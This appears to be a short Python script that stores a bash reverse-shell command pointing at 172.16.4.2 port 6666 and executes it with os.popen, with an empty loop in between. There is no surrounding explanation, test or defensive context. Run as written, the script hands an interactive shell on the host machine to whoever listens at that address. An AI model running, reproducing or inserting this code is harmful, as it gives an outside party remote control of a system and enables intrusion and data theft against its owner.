
import os
steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/6666 0>&1"}
for k in ["a"]:
    pass
os.popen(steps.get("a"))
